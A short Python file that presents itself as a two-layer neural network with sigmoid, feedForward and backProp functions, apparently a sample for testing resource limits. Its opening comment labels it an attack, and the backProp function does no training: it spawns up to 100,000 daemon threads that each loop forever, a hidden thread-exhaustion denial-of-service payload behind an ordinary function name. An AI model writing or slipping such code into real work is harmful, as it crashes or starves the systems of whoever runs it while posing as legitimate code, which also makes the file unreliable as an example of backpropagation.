# Attack: start threads until something breaks, each spinning or sleeping forever.
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import threading
import time


def _gira():
    while True:
        time.sleep(0.001)


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    started = 0
    while started < 100_000:
        threading.Thread(target=_gira, daemon=True).start()
        started += 1
    return started, 0, 0, 0
